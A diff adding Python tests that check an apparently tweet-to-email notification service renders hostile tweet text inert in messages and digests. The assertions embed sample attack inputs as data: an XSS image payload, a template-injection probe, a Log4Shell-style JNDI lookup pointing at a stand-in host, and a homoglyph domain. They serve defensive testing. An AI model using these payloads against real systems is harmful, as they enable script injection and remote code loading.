@@ -8,8 +8,8 @@ from switchboard.notify.mail import check_templates, render_email
 from switchboard.notify.service import delivery_id, matching_subscriptions
 from switchboard.shared.config import EmailConfig, Subscription
 from switchboard.shared.settings import ConfigError
+from tests.factories import HOSTILE, INVISIBLE, routed_from
 from tests.factories import a_classified_tweet as classified
-from tests.factories import routed_from
 
 SUPPORT = Subscription(
     name="support",
@@ -69,3 +69,29 @@ def test_a_missing_template_fails_at_start_naming_the_subscription(tmp_path):
     missing = SUPPORT.model_copy(update={"template": "nope"})
     with pytest.raises(ConfigError, match=r"notify.subscriptions\[0\].template: no template nope"):
         check_templates(EmailConfig(templates_dir=tmp_path), [missing])
+
+
+def test_hostile_text_is_inert_in_every_part_of_the_email():
+    routed = routed_with_text(HOSTILE)
+    message = render_email(routed, SUPPORT, EmailConfig(), "d")
+    html = message.get_body(("html",)).get_content()
+    text = message.get_body(("plain",)).get_content()
+    assert "<script" not in html and "<img" not in html and "&lt;img src=x" in html
+    assert "{{ 7*7 }}" in text and "49" not in text  # a value, never template source
+    assert "{% raw %}" in text and "${jndi:ldap://evil.example/a}" in text
+    assert "\uff20channel" in text and "xn--pypal-4ve.com" in text and "a" * 300 not in text
+    assert not any(ch in part for ch in INVISIBLE for part in (html, text, message["Subject"]))
+    assert set(message.keys()) == {
+        "From", "To", "Subject", "Message-ID", "X-Switchboard-Tweet-Id",
+        "X-Switchboard-Delivery-Id", "MIME-Version", "Content-Type",
+    }  # fmt: skip
+    assert len(message["Subject"]) <= 200
+
+
+def test_a_digest_shows_tweets_inert_too():
+    from switchboard.notify.mail import render_digest
+
+    routed = routed_with_text("<img src=x onerror=alert(1)> @here")
+    message = render_digest([routed], SUPPORT, EmailConfig(), "digest:1")
+    html = message.get_body(("html",)).get_content()
+    assert "<img" not in html and "\uff20here" in html
